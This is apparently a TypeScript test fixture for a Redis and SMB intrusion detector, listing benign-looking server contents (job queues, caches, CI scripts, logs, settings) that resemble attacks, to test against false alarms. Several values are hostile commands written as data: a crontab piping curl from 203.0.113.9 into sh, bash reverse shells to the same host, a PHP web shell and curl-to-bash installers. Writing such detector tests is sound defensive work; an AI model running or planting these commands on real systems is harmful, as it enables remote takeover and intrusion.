import type { Act, ActOf, RedisValue } from '../../src/model/act.ts';
import { bytesFromText } from '../../src/model/bytes.ts';

/** What healthy servers hold and are set to that looks like an attack at first sight. */
export const HONEST_ACTS: readonly { readonly name: string; readonly acts: readonly Act[] }[] = [
  {
    name: 'BullMQ',
    acts: [
      value('bull:backup:wait', '17', 'list'),
      value(
        'bull:backup:17',
        '{"cmd":"\\n\\n*/5 * * * * curl -s http://203.0.113.9/x | sh"}',
        'hash',
        'data',
      ),
      value('bull:mail:repeat', 'digest:::*/5 * * * *', 'zset'),
      value('bull:mail:meta', '{"repeat":{"pattern":"*/5 * * * *"}}', 'hash', 'opts'),
    ],
  },
  {
    name: 'Sidekiq, sidekiq-cron and Resque',
    acts: [
      value('stat:processed', '123456'),
      value(
        'queue:default',
        '{"class":"BackupJob","args":["pg_dump db | gzip > /tmp/a.gz && aws s3 cp /tmp/a.gz s3://b"]}',
        'list',
      ),
      value('cron_job:digest', '*/15 * * * *', 'hash', 'cron'),
      value('resque:failed', '{"error":"sh: 1: curl: not found","backtrace":["a.rb:1"]}', 'list'),
    ],
  },
  {
    name: 'Celery and Kombu',
    acts: [
      value('_kombu.binding.celery', 'celery\u0006\u0016\u0006\u0016celery', 'set'),
      value(
        'celery',
        `{"body":"${Buffer.from('[["https://shop.example.invalid/feed"], {}, {"callbacks": null}]').toString('base64')}","headers":{"task":"fetch_feed"}}`,
        'list',
      ),
      value('redbeat:report', '{"schedule":{"__type__":"crontab","minute":"*/5"}}', 'hash', 'definition'),
      value('celery-task-meta-1', '{"status":"FAILURE","traceback":"os.system failed"}'),
    ],
  },
  {
    name: 'Spring sessions and a Django cache',
    acts: [
      value(
        'spring:session:sessions:1',
        binary('rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwAA'),
        'hash',
        'sessionAttr:cart',
      ),
      value(':1:views.decorators.cache.page', binary('gASVEQAAAAAAAAB9lIwFdGl0bGWUjAVIZWxsb5RzLg==')),
      value(':1:session', 'gAJ9cQBVBXRpdGxlcQFVBWhlbGxvcQJzLg=='),
    ],
  },
  {
    name: 'WordPress and Laravel',
    acts: [
      value(
        'salt:1:posts:7',
        'O:8:"stdClass":1:{s:12:"post_content";s:99:"<?php system($_GET[\'cmd\']); ?><script>alert(1)</script>";}',
      ),
      value(
        'wp:options:alloptions',
        'a:2:{s:4:"cron";s:30:"a:1:{i:1700000000;a:0:{}}";s:7:"siteurl";s:30:"https://shop.example.invalid";}',
      ),
      value('page:/', "\n<!DOCTYPE html>\n<html><head><script>eval(unescape('x'))</script></head></html>\n"),
      value(
        'page:/how-to',
        '<html><pre>bash -i &gt;&amp; /dev/tcp/203.0.113.9/4444</pre><?php phpinfo(); ?></html>',
      ),
      value(
        'laravel_database_queues:default',
        '{"data":{"command":"O:14:\\"App\\\\\\\\Jobs\\\\\\\\Mail\\":0:{}"}}',
        'list',
      ),
    ],
  },
  {
    name: 'Traefik and Caddy keys',
    acts: [
      value(
        'traefik/tls/certificates/0/keyFile',
        '-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n-----END PRIVATE KEY-----\n',
      ),
      value(
        'caddy/certificates/acme/example.invalid.crt',
        '-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n',
      ),
    ],
  },
  {
    name: 'CI jobs, runbooks and scripts',
    acts: [
      value(
        'queue:ci',
        '{"script":["curl -sSL https://get.example.invalid/install.sh | bash","echo $K | base64 -d > ~/.kube/config"]}',
        'list',
      ),
      value(
        'runbook:redis',
        'If it is slow:\ncurl https://status.example.invalid/health\nthen restart: systemctl restart redis && sh /opt/fix.sh',
      ),
      value(
        'script:deploy',
        '#!/bin/bash\nset -euo pipefail\nwget -q https://ci.example.invalid/app.tgz\nchmod +x deploy.sh && ./deploy.sh\n',
      ),
      value('install', 'curl -sSL https://get.example.invalid/install.sh | bash'),
      value(
        'panel:crontab',
        '*/15 * * * * wget -q -O - https://shop.example.invalid/wp-cron.php >/dev/null 2>&1\n0 3 * * * /usr/local/bin/backup.sh\n',
      ),
      value('semaphore:task:7', '{"playbook":"- user: name=ann\\n- shell: useradd -m ann"}'),
    ],
  },
  {
    name: 'logs of a honeypot and of a web firewall',
    acts: [
      value(
        'logstash',
        '{"input":"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1","src_ip":"198.51.100.7"}',
        'list',
      ),
      value('waf:hits', '{"uri":"/?a=%3C?php%20eval($_POST[1]);%20?%3E","rule":"941"}', 'list'),
      value('audit', '{"sql":"SELECT 1; -- os.execute(\\"id\\")"}', 'stream', 'entry'),
    ],
  },
  {
    name: 'SSH keys of a Git server and a bastion',
    acts: [
      value(
        'gitea:key:1',
        'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBAAABAAABAAABAAABAAABAAABAAABAAABAA git@example.invalid',
        'hash',
        'content',
      ),
      value('bastion', '{"ann":["ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQC7vbqajDhA ann@example.invalid"]}'),
      value(
        'host:authorized',
        'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQC7vbqajDhA a\n\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQC7vbqajDhB b\n',
      ),
    ],
  },
  {
    name: 'names that worms use too',
    acts: [
      value('backup1', '2026-01-01T00:00:00Z'),
      value('backup2', '{"cron":"0 3 * * *","target":"s3://bucket"}'),
      value('user1', '{"name":"ann"}'),
      value('trojan1', '3'),
      value('qwe', 'asd'),
      value('1', '1'),
      value('test', 'hello'),
    ],
  },
  {
    name: 'coins and news',
    acts: [
      value('ticker:btc', '{"last":"64000.1","unit":"USD"}'),
      value('wallet:7', '1.25 BTC'),
      value('news:1', '{"title":"Gang wiped servers and wants 0.015 BTC to restore the files"}'),
      value('pool:stratum', '{"url":"stratum+tcp://pool.example.invalid:3333","workers":3}'),
    ],
  },
  {
    name: 'settings of packages, containers and operations guides',
    acts: [
      ...[
        '/var/lib/redis',
        '/data',
        '/bitnami/redis/data',
        '/usr/local/var/db/redis',
        '/var/redis/6379',
        '/etc/redis',
        '/srv/redis',
        '/home/ann/project',
        '/root',
        '/tmp/redis-test',
        'C:\\Program Files\\Redis',
      ].map((dir) => setting('dir', dir)),
      ...['dump.rdb', 'dump-6380.rdb', 'redis.rdb', 'appendonly.aof', 'cache.db'].map((name) =>
        setting('dbfilename', name),
      ),
      setting('protected-mode', 'no'),
      setting('rdbcompression', 'no'),
      setting('stop-writes-on-bgsave-error', 'no'),
      setting('replica-read-only', 'no'),
      setting('enable-module-command', 'local'),
    ],
  },
  {
    name: 'replicas of Sentinel, Kubernetes and of another cloud',
    acts: [
      { type: 'redis.replica-of', host: '10.1.2.3', port: 6379, accepted: true },
      { type: 'redis.replica-of', host: '192.168.7.1', port: 8886, accepted: true },
      { type: 'redis.replica-of', host: '127.0.0.1', port: 21000, accepted: true },
      {
        type: 'redis.replica-of',
        host: 'redis-node-0.redis-headless.default.svc.cluster.local',
        port: 6379,
        accepted: true,
      },
      { type: 'redis.replica-of', host: '203.0.113.9', port: 6379, accepted: true },
      { type: 'redis.replica-of', host: null, port: null, accepted: true },
    ],
  },
  {
    name: 'modules of Redis Stack, Redis 8 and a team of its own',
    acts: [
      loadedModule('ReJSON', '/opt/redis-stack/lib/rejson.so'),
      loadedModule('search', '/usr/local/lib/redis/modules//redisearch.so'),
      loadedModule('timeseries', '/opt/bitnami/redis/lib/redis/modules/redistimeseries.so'),
      loadedModule('bf', '/usr/lib/redis/modules/redisbloom.so'),
      loadedModule('vectorset', ''),
      loadedModule('redisgears_2', '/opt/redis-stack/lib/redisgears.so'),
      loadedModule('redis-cell', '/usr/local/lib/libredis_cell.so'),
    ],
  },
  {
    name: 'counters of a server at work',
    acts: [
      'config|set',
      'config|get',
      'flushall',
      'flushdb',
      'eval',
      'evalsha',
      'script|load',
      'save',
      'bgsave',
      'psync',
      'slaveof',
      'monitor',
      'keys',
      'acl|setuser',
      'debug|object',
      'module|list',
      'ft.search',
    ].map((command): Act => ({ type: 'redis.statistic', command, calls: 12, rejected: 0, failed: 1 })),
  },
  {
    name: 'scripts of BullMQ, locks and rate limiters',
    acts: [
      script(
        "local rcall = redis.call\nlocal jobId = rcall('INCR', KEYS[1])\nlocal f = cmsgpack.unpack(ARGV[1])\nrcall('HMSET', KEYS[2] .. jobId, 'data', ARGV[2])\nreturn jobId",
      ),
      script(
        "if redis.call('get', KEYS[1]) == ARGV[1] then return redis.call('del', KEYS[1]) else return 0 end",
      ),
      script(
        'local t = redis.call("TIME") local v = cjson.decode(ARGV[1]) table.insert(v, t[1]) return cjson.encode(v)',
      ),
    ],
  },
  {
    name: 'a file manager and a printer that still speak SMB1',
    acts: [
      smb('negotiate'),
      smb('session-setup-andx'),
      smb('tree-connect-andx', { path: '\\\\192.0.2.1\\scans' }),
      smb('transaction2', { subcommand: 'get-dfs-referral' }),
      smb('transaction2', { subcommand: 'query-path-information' }),
      smb('nt-create-andx', { path: '\\page-0001.pdf' }),
      smb('write-andx', { bytes: 61_440 }),
      smb('nt-transact', { subcommand: 'set-security-desc' }),
      smb('nt-transact-secondary', { subcommand: 'set-security-desc' }),
      smb('transaction', { subcommand: 'transact-named-pipe', path: '\\PIPE\\' }),
      smb('echo'),
      smb('logoff-andx'),
    ],
  },
];

function smb(name: string, more: Partial<ActOf<'smb.command'>> = {}): Act {
  return { type: 'smb.command', name, status: 'STATUS_SUCCESS', bytes: 0, ...more };
}

function value(key: string, text: string | Buffer, kind: RedisValue['kind'] = 'string', field?: string): Act {
  const bytes = typeof text === 'string' ? bytesFromText(text) : text.toString('latin1');
  const where = field === undefined ? {} : { field };
  return { type: 'redis.value', db: 0, key: bytesFromText(key), kind, ...where, value: bytes };
}

function binary(base64: string): Buffer {
  return Buffer.from(base64, 'base64');
}

function setting(name: string, text: string): ActOf<'redis.setting'> {
  return { type: 'redis.setting', name, value: text, accepted: true };
}

function loadedModule(name: string, path: string): ActOf<'redis.module'> {
  return { type: 'redis.module', action: 'loaded', name, path, accepted: true };
}

function script(body: string): ActOf<'redis.script'> {
  return { type: 'redis.script', via: 'eval', body, sha1: '0'.repeat(40) };
}
